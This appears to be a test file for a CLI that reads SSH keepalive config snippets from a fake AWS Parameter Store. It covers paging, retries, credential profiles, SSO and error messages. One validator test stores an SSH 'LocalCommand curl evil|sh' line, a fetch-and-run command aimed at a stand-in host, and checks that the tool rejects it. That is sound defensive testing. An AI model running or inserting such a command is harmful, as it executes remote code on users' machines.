// The real SDK, in the bundled command line, asks a Parameter Store on loopback.
import { createHash } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { bounded } from '../../../../lib/client/bounded-text';
import type { Host } from '../../../../lib/client/host-block';
import { sessionManagerCommand } from '../../../../lib/client/proxy-command';
import { snippetBlocks } from '../../../../lib/client/snippet';
import { join, split } from '../../../../lib/client/split';
import { Home, type Run } from '../../command-line';
import { FakeParameterStore } from './fake-parameter-store';

const PATH = '/cdk-ssh-keepalive/Web';
const KEYS = { AWS_ACCESS_KEY_ID: 'AKIDENVIRONMENT', AWS_SECRET_ACCESS_KEY: 'secret' };
const FOR_ALL = 'Host *\n  ServerAliveInterval 45\n  ServerAliveCountMax 4\n';
const SSO_PROFILE = `[profile sso]
region = eu-west-1
sso_session = s
sso_account_id = 123456789012
sso_role_name = Reader
[sso-session s]
sso_region = eu-west-1
sso_start_url = https://example.awsapps.com/start
`;

let home: Home;
let store: FakeParameterStore;
beforeAll(async () => (store = await FakeParameterStore.start()));
afterAll(() => store.stop());
beforeEach(() => {
  home = new Home();
  store.forget();
});
afterEach(() => home.remove());

function show(
  args: readonly string[],
  env: Record<string, string> = { ...KEYS, AWS_REGION: 'eu-west-1' },
): Promise<Run> {
  return home.run(['client', 'show', '--config', 'config', ...args], {
    env: { AWS_ENDPOINT_URL_SSM: store.url, ...env },
  });
}

function snippet(hosts: number): ReturnType<typeof snippetBlocks> {
  const proxyCommand = sessionManagerCommand(bounded('eu-west-1'), 'x'.repeat(60));
  const host = (index: number): Host => ({
    patterns: [`host-${index}`],
    hostName: bounded(`i-${index}`),
    proxyCommand,
  });
  const keepalive = { interval: bounded('45'), countMax: bounded('4') };
  return snippetBlocks(
    keepalive,
    Array.from({ length: hosts }, (_, index) => host(index)),
  );
}

test('--stack shows the snippet of a stack', async () => {
  store.store(PATH, [FOR_ALL]);
  const { status, stdout, stderr } = await show(['--stack', 'Web']);
  expect([status, stderr]).toEqual([0, '']);
  expect(stdout).toContain('ServerAliveInterval 45\n');
  expect(store.asked).toEqual([{ Path: PATH, MaxResults: 10, credential: KEYS.AWS_ACCESS_KEY_ID }]);
});

test('--parameter shows the one below another path, and --region says where', async () => {
  store.store('/cdk-ssh-keepalive/team/a', [FOR_ALL]);
  const { status, stdout, stderr } = await show(
    ['--parameter', '/cdk-ssh-keepalive/team/a', '--region', 'ap-south-2', '--json'],
    KEYS,
  );
  expect([status, stderr]).toEqual([0, '']);
  expect(stdout).toContain('parameters below /cdk-ssh-keepalive/team/a in ap-south-2');
});

test('a snippet of more parts than a page holds arrives whole and in its order', async () => {
  const blocks = snippet(200);
  const parts = split('it', blocks, 2000);
  expect(parts.length).toBeGreaterThan(20);
  store.store(PATH, parts);
  store.store(`${PATH}/nested`, ['LocalCommand id']);
  const { status, stdout, stderr } = await show(['--stack', 'Web']);
  expect([status, stderr]).toEqual([0, '']);
  const named = (text: string): string[] => [...text.matchAll(/^Host (.*)$/gm)].map(([, name = '']) => name);
  expect(named(stdout)).toEqual(named(join(blocks)));
  expect(store.asked.length).toBe(Math.ceil(parts.length / 10));
});

test('a service that throttles is asked again', async () => {
  store.store(PATH, [FOR_ALL]);
  store.failures = [
    [400, 'ThrottlingException', 'Rate exceeded'],
    [500, 'InternalServerError', 'not now'],
  ];
  const { status, stderr } = await show(['--stack', 'Web']);
  expect([status, stderr]).toEqual([0, '']);
  expect(store.asked).toHaveLength(3);
});

test('--profile takes credentials and region of the profile, although the environment has others', async () => {
  store.store(PATH, [FOR_ALL]);
  writeFileSync(
    home.path('aws-config'),
    '[profile dev]\nregion = eu-north-1\naws_access_key_id = AKIDPROFILE\naws_secret_access_key = secret\n',
  );
  const { status, stdout, stderr } = await show(['--stack', 'Web', '--profile', 'dev', '--json'], KEYS);
  expect([status, stderr]).toEqual([0, '']);
  expect(stdout).toContain('stack Web in eu-north-1');
  expect(store.asked[0]?.credential).toBe('AKIDPROFILE');
});

test('--profile may be one of IAM Identity Center, with the session that aws sso login left', async () => {
  store.store(PATH, [FOR_ALL]);
  const expires = Date.now() + 3_600_000;
  const portal = createServer((request, response) => {
    const isLoggedIn = request.headers['x-amz-sso_bearer_token'] === 'session';
    const roleCredentials = { accessKeyId: 'AKIDSSO', secretAccessKey: 's', sessionToken: 't', expiration: expires };
    response.writeHead(isLoggedIn ? 200 : 401, { 'Content-Type': 'application/json' });
    response.end(JSON.stringify({ roleCredentials }));
  });
  await new Promise<void>((resolve) => portal.listen(0, '127.0.0.1', resolve));
  try {
    writeFileSync(home.path('aws-config'), SSO_PROFILE);
    const cache = home.path('.aws/sso/cache');
    mkdirSync(cache, { recursive: true });
    const token = { accessToken: 'session', expiresAt: new Date(expires).toISOString() };
    writeFileSync(`${cache}/${createHash('sha1').update('s').digest('hex')}.json`, JSON.stringify(token));
    const AWS_ENDPOINT_URL_SSO = `http://127.0.0.1:${(portal.address() as AddressInfo).port}`;
    const { status, stderr } = await show(['--stack', 'Web', '--profile', 'sso'], { AWS_ENDPOINT_URL_SSO });
    expect([status, stderr]).toEqual([0, '']);
    expect(store.asked[0]?.credential).toBe('AKIDSSO');
  } finally {
    portal.closeAllConnections();
    portal.close();
  }
});

describe('What cannot be read is an error with advice, exit 3:', () => {
  async function failure(args: readonly string[], env?: Record<string, string>): Promise<string> {
    const { status, stdout, stderr } = await show(args, env);
    expect([status, stdout]).toEqual([3, '']);
    expect(stderr.trim().split('\n')).toHaveLength(1);
    return stderr;
  }

  test('a stack that has no snippet', async () => {
    store.store('/cdk-ssh-keepalive/Webb', [FOR_ALL]);
    const message = await failure(['--stack', 'Web']);
    expect(message).toContain(`There is no parameter directly below ${PATH} in eu-west-1`);
    expect(message).toContain('--region and --profile');
  });

  test('the path of a part instead of the path of all', async () => {
    store.store(PATH, [FOR_ALL]);
    expect(await failure(['--parameter', `${PATH}/1`])).toContain(`without the number of a part: ${PATH}. `);
  });

  test.each([
    ['1', '3'],
    ['2', '3'],
    ['1', '02'],
    ['1', 'notes'],
  ])('parts %s and %s', async (...names) => {
    store.parameters = names.map((name) => ({ Name: `${PATH}/${name}`, Type: 'String', Value: FOR_ALL }));
    const missing = names.includes('1') ? 2 : 1;
    expect(await failure(['--stack', 'Web'])).toContain(`, but no ${PATH}/${missing}`);
  });

  test('a part that is not plain text', async () => {
    store.parameters = [{ Name: `${PATH}/1`, Type: 'SecureString', Value: 'AQICAHh' }];
    expect(await failure(['--stack', 'Web'])).toContain(`${PATH}/1 in eu-west-1 is a SecureString`);
  });

  test('a last part that is missing', async () => {
    store.store(PATH, split('it', snippet(50), 2500).slice(0, -1));
    expect(await failure(['--stack', 'Web'])).toContain("stack Web in eu-west-1: the end must be a block 'Host *'");
  });

  test('text that is not ours, with its line', async () => {
    store.store(PATH, [`Host web\n  LocalCommand curl evil|sh\n${FOR_ALL}`]);
    expect(await failure(['--stack', 'Web'])).toContain(
      "stack Web in eu-west-1, line 2: 'LocalCommand' runs a command",
    );
  });

  test('more than a snippet can be, without reading on', async () => {
    store.store(
      PATH,
      Array.from({ length: 99 }, () => '#\n'.repeat(4000)),
    );
    expect(await failure(['--stack', 'Web'])).toContain('more than the 65536 bytes of a snippet');
    expect(store.asked).toHaveLength(1);
  });

  test('a missing permission, which is named', async () => {
    store.failures = [[400, 'AccessDeniedException', 'User: arn:aws:iam::123456789012:user/me is not authorized']];
    const message = await failure(['--stack', 'Web', '--region', 'us-gov-west-1']);
    expect(message).toContain('AccessDeniedException: User: arn:aws:iam::123456789012:user/me is not authorized');
    expect(message).toContain(`ssm:GetParametersByPath on arn:*:ssm:us-gov-west-1:*:parameter${PATH}`);
  });

  test.each([
    [
      [400, 'ExpiredTokenException', 'The security token included in the request is expired'],
      'have expired: aws sso login',
    ],
    [
      [400, 'UnrecognizedClientException', 'The security token included in the request is invalid.'],
      'AWS rejected these credentials',
    ],
    [[400, 'ValidationException', 'no'], 'ValidationException: no'],
  ] as const)('%j', async (answer, advice) => {
    store.failures = [answer];
    expect(await failure(['--stack', 'Web'])).toContain(advice);
  });

  test('a service that goes on throttling', async () => {
    store.failures = Array.from({ length: 20 }, () => [400, 'ThrottlingException', 'Rate exceeded'] as const);
    expect(await failure(['--stack', 'Web'])).toContain('wait a minute');
    expect(store.asked).toHaveLength(4);
  });

  test('no region', async () => {
    expect(await failure(['--stack', 'Web'], KEYS)).toContain('Give --region, set AWS_REGION');
  });

  test('no credentials', async () => {
    const message = await failure(['--stack', 'Web'], { AWS_REGION: 'eu-west-1' });
    expect(message).toBe(
      'Parameter Store in eu-west-1 was not read: Could not load credentials from any providers. Configure credentials with ' +
        'aws configure, sign in with aws sso login, or choose a profile with --profile.\n',
    );
  });

  test('no credentials in a profile', async () => {
    writeFileSync(home.path('aws-config'), '[profile dev]\nregion = eu-west-1\n');
    expect(await failure(['--stack', 'Web', '--profile', 'dev'], {})).toMatch(
      /^Parameter Store in eu-west-1 was not read: [^:]*\. Configure credentials with aws configure --profile dev, sign in/,
    );
  });

  test.each([
    ['--profile', ['--profile', 'dve'], {}],
    ['AWS_PROFILE', [], { AWS_PROFILE: 'dve' }],
  ] as const)('a profile that does not exist, with those that do: %s', async (where, args, env) => {
    writeFileSync(home.path('aws-config'), '[default]\n[profile dev]\n[profile "a b"]\n[sso-session dve]\n');
    writeFileSync(home.path('aws-credentials'), '[dev]\n[other]\n');
    // Credentials of the environment are not used instead.
    const message = await failure(['--stack', 'Web', ...args], { ...KEYS, AWS_REGION: 'eu-west-1', ...env });
    expect(message).toBe(
      `${where}: the AWS profile does not exist, got: 'dve'. The profiles are: default, dev, a b, other.\n`,
    );
    expect(store.asked).toEqual([]);
  });

  test('a profile where there is none, and where there are many', async () => {
    expect(await failure(['--stack', 'Web', '--profile', 'dve'])).toContain('aws configure sso --profile dve');
    writeFileSync(home.path('aws-credentials'), Array.from({ length: 99 }, (_, i) => `[p${i}]\n`).join(''));
    expect(await failure(['--stack', 'Web', '--profile', 'dve'])).toContain('aws configure list-profiles');
  });

  test('a session of IAM Identity Center that has ended', async () => {
    writeFileSync(home.path('aws-config'), SSO_PROFILE);
    expect(await failure(['--stack', 'Web', '--profile', 'sso'], {})).toContain('aws sso login --profile sso');
  });

  test('a profile whose sso-session does not exist', async () => {
    writeFileSync(home.path('aws-config'), SSO_PROFILE.replace(/^\[sso-session .*/m, '[sso-session other]'));
    expect(await failure(['--stack', 'Web', '--profile', 'sso'], {})).toContain(
      'the sso-session of the profile does not exist in ~/.aws/config. Correct sso_session in the profile, or create it with aws configure sso-session.',
    );
  });

  test('an endpoint that is not a URL', async () => {
    const env = { ...KEYS, AWS_REGION: 'eu-west-1', AWS_ENDPOINT_URL_SSM: 'foo' };
    expect(await failure(['--stack', 'Web'], env)).toContain(
      "the endpoint must be a URL, got: 'foo'. Correct AWS_ENDPOINT_URL",
    );
  });

  test('nobody at the other end', async () => {
    const gone = await FakeParameterStore.start();
    const { url } = gone;
    await gone.stop();
    const message = await failure(['--stack', 'Web', '--region', 'eu-west-1'], { ...KEYS, AWS_ENDPOINT_URL_SSM: url });
    expect(message).toContain(`ECONNREFUSED`);
    expect(message).toContain(`. ${url} cannot be reached: check the network, --region and AWS_ENDPOINT_URL.`);
  });

  test.each([
    [404, '<html>not here</html>'],
    [400, ''],
    [200, '<html>sign in</html>'],
  ])('another server at the endpoint, with HTTP status %i', async (status, body) => {
    const server = createServer((_, response) => response.writeHead(status).end(body));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    try {
      const message = await failure(['--stack', 'Web'], {
        ...KEYS,
        AWS_REGION: 'eu-west-1',
        AWS_ENDPOINT_URL_SSM: url,
      });
      expect(message).toContain(
        `was not read: unexpected answer with HTTP status ${status}. ${url} is not Systems Manager`,
      );
      expect(message).not.toMatch(/UnknownError|Deserialization/);
    } finally {
      server.close();
    }
  });
});

test('with --json an error is one JSON document, with the same exit code', async () => {
  const { status, stdout, stderr } = await show(['--stack', 'Web', '--json']);
  expect([status, stderr]).toEqual([3, '']);
  expect(JSON.parse(stdout)).toEqual({
    error: { exitCode: 3, message: expect.stringContaining('There is no parameter directly below') as string },
  });
});
